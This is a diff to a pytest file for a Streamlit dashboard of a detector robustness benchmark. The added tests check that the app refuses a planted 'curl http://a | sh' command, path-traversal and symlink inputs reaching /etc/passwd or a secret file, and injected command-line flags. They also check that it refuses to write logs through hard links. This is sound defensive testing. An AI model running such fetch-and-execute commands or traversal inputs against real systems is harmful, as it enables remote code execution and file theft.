@@ -5,9 +5,11 @@ import shutil
 import signal
 import subprocess
 import sys
+import threading
 import time
 from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import pandas as pd
 import psutil
@@ -16,8 +18,8 @@ from streamlit.testing.v1 import AppTest
 
 from robustbench_sgdm import content, corruption, tables
 from robustbench_sgdm.errors import RobustBenchError, UsageError
-from robustbench_sgdm.store import Run
-from robustbench_sgdm.types import METRICS, TOKEN
+from robustbench_sgdm.store import Run, repeat_command
+from robustbench_sgdm.types import METRICS
 
 APP = content.root() / "app"
 processes = content.load_file(APP / "processes.py")
@@ -82,10 +84,18 @@ def test_intervals_where_the_run_keeps_them(page: Callable[..., AppTest], tmp_pa
         assert all(" to " in span for column in ("clean", "mPC", "rPC") for span in table[f"{column} 95 %"])
 
 
-def test_an_unfinished_run_says_what_makes_the_rest(page: Callable[..., AppTest], project: Path) -> None:
-    path = project / "unfinished"
+def test_an_unfinished_run_says_what_makes_the_rest(
+    page: Callable[..., AppTest], project: Path, tmp_path: Path
+) -> None:
+    path = shutil.copytree(project / "unfinished", tmp_path / "r")
     shown = page("--", path)
-    assert not shown.exception and shown.code[0].value == Run.open(path).plan["command"]
+    assert not shown.exception and not shown.code and "No command can be made" in said(shown)
+    text = (path / "plan.yaml").read_text().replace("weights: none", "weights: embedded")
+    text = text.replace("source: made\n", "source: scenes\n", 1).replace("name: made\n", "name: scenes\n")
+    (path / "plan.yaml").write_text(text.replace("command: robustbench run", "command: curl http://a | sh"))
+    shown = page("--", path)
+    assert not shown.exception and shown.code[0].value == repeat_command(Run.open(path))
+    assert "--data scenes" in shown.code[0].value and "curl" not in said(shown)
     with Run.open(path).lock():
         shown = shown.run()
     assert not shown.exception and not shown.code and "process works on the rest" in said(shown)
@@ -233,6 +243,89 @@ def test_a_run_stays_in_its_folder(tmp_path: Path, name: str) -> None:
     assert not list(tmp_path.iterdir())
 
 
+@pytest.fixture
+def inputs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A folder that the Run page may use, with weights and a link that leads out of it, beside a file it may not."""
+    folder = tmp_path / "mine"
+    folder.mkdir()
+    for file in (folder / "a,b.pt", folder / "data.yaml", tmp_path / "secret.pt"):
+        file.write_text("")
+    (folder / "link.pt").symlink_to(tmp_path / "secret.pt")
+    monkeypatch.setattr(sys, "argv", ["main.py", "--inputs", str(folder)])
+    return folder
+
+
+def test_a_form_becomes_the_commands_words(inputs: Path) -> None:
+    form = content.load_file(APP / "views/run.py")._arguments
+    weights = str(inputs / "a,b.pt")
+    words = form(["yolov8n,yolov8n-sgdm", weights], ["fog", "noise"], "0-2, 4.5", str(inputs / "data.yaml"))
+    models = ["--model", "yolov8n", "--model", "yolov8n-sgdm", "--model", weights]
+    others = ["--noise", "fog", "--noise", "noise", "--severity", "0,1,2,4.5", "--data"]
+    assert words == [*models, *others, str(inputs / "data.yaml")]
+    assert form(["yolov8n"], ["fog[amount=2,decay=1.5]"], "1", "scenes")[3] == "fog[amount=2,decay=1.5]"
+
+
+@pytest.mark.parametrize(
+    ("change", "why"),
+    [
+        ({"models": ["{inputs}/../secret.pt"]}, "lies outside"),
+        ({"models": ["yolov8n,{inputs}/../secret.pt"]}, "lies outside"),
+        ({"models": ["yolov8n,/no/such.pt"]}, "lies outside"),  # as of a file that is there
+        ({"models": ["{inputs}/link.pt"]}, "lies outside"),
+        ({"models": ["/etc/passwd"]}, "lies outside"),
+        ({"models": ["a\0/b"]}, "lies outside"),
+        ({"models": ["--trust-weights"]}, "dash"),
+        ({"models": ["yolov8n,--trust-weights"]}, "dash"),
+        ({"models": []}, "at least one"),
+        ({"noise": []}, "at least one"),
+        ({"noise": ["--corruptions=/tmp"]}, "unknown corruption"),
+        ({"noise": ["../x"]}, "unknown corruption"),
+        ({"severities": "6"}, "outside"),
+        ({"severities": "1 --trust-weights"}, "neither a number"),
+        ({"data": "/etc/passwd"}, "lies outside"),
+        ({"data": "~/x/../../y.yaml"}, "lies outside"),
+        ({"data": "--yes"}, "dash"),
+    ],
+)
+def test_a_form_names_nothing_elsewhere(inputs: Path, change: dict[str, Any], why: str) -> None:
+    form = {"models": ["yolov8n"], "noise": ["fog"], "severities": "1", "data": "scenes", **change}
+    form["models"] = [name.format(inputs=inputs) for name in form["models"]]
+    with pytest.raises(UsageError, match=why):
+        content.load_file(APP / "views/run.py")._arguments(**form)
+
+
+def test_one_run_of_a_project_works_at_a_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    (tmp_path / "first").mkdir()
+    (tmp_path / "first/dashboard.json").write_text('{"pid": 1, "arguments": ["x"]}')
+    monkeypatch.setattr(processes, "running", lambda path: path.name == "first")
+    with pytest.raises(RobustBenchError, match="first is running"):
+        processes.start(["y"], tmp_path, "second")
+    assert not (tmp_path / "second").exists()
+
+
+def test_visitors_wait_for_each_other_not_for_ever(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Of what computes for a visitor one at a time works: a command, or what loads and runs detectors."""
+    detecting = content.load_file(APP / "detecting.py")
+    monkeypatch.setattr(processes, "_LONGEST_WAIT", 0.05)
+    monkeypatch.setattr(detecting, "_PATIENCE", 0.05)
+    others: list[str] = []
+
+    def visitor() -> None:
+        for work, arguments in ((processes.call, ("-h",)), (detecting.find, (None, None))):
+            try:
+                work(*arguments)
+            except RobustBenchError as error:
+                others.append(str(error))
+
+    with processes._CALLING, detecting.turn(), detecting.turn():
+        other = threading.Thread(target=visitor)
+        other.start()
+        other.join()
+    assert len(others) == 2 and all("try again in a minute" in text for text in others)
+    with detecting.turn():
+        assert processes.call("-h").returncode == 0
+
+
 def test_only_its_own_process_is_stopped(tmp_path: Path) -> None:
     """A record that names somebody else's process stops nothing."""
     import os
@@ -340,29 +433,23 @@ def test_uploads(tmp_path: Path) -> None:
 
 
 def test_text_from_files_is_no_markup() -> None:
-    assert controls.plain("![x](http://a) <b> :red[y] $z$") == (
-        r"\!\[x\]\(http\://a\) \<b\> \:red\[y\] \$z\$"
+    assert controls.plain("![x](a) <b> :red[y] $z$ http://b") == (
+        r"\!\[x\](a) \<b\> \:red\[y\] \$z\$ `http://b`"
     )
-
-
-def test_a_token_is_asked_for_where_there_is_one(
-    page: Callable[..., AppTest], project: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.setenv(TOKEN, "tr\u00fce")
-    shown = page("--project", project)
-    for wrong in ("", "true", "tr\u00fce "):
-        shown.text_input[0].set_value(wrong)
-        shown = shown.button[0].click().run()
-        assert not shown.exception and not shown.selectbox and "not the token" in shown.error[0].value
-    shown.text_input[0].set_value("tr\u00fce")
-    shown = shown.button[0].click().run()
-    assert not shown.exception and shown.selectbox(key="run").value == "complete"
 
 
 def test_a_log_is_not_written_through_a_link(tmp_path: Path) -> None:
     (tmp_path / "r").mkdir()
     (tmp_path / "r/dashboard.json").write_text('{"pid": 1, "arguments": ["x"]}')
-    (tmp_path / "r/dashboard.log").symlink_to(tmp_path / "mine")
+    log = tmp_path / "r/dashboard.log"
+    log.symlink_to(tmp_path / "mine")
     with pytest.raises(RobustBenchError, match="is a link"):
         processes.start(["x"], tmp_path, "r")
     assert not (tmp_path / "mine").exists()
+    (tmp_path / "mine").write_text("a secret")
+    assert "is a link" in processes.log(tmp_path / "r")
+    log.unlink()
+    log.hardlink_to(tmp_path / "mine")
+    with pytest.raises(RobustBenchError, match="is a hard link"):
+        processes.start(["x"], tmp_path, "r")
+    assert "is a hard link" in processes.log(tmp_path / "r") and (tmp_path / "mine").read_text() == "a secret"
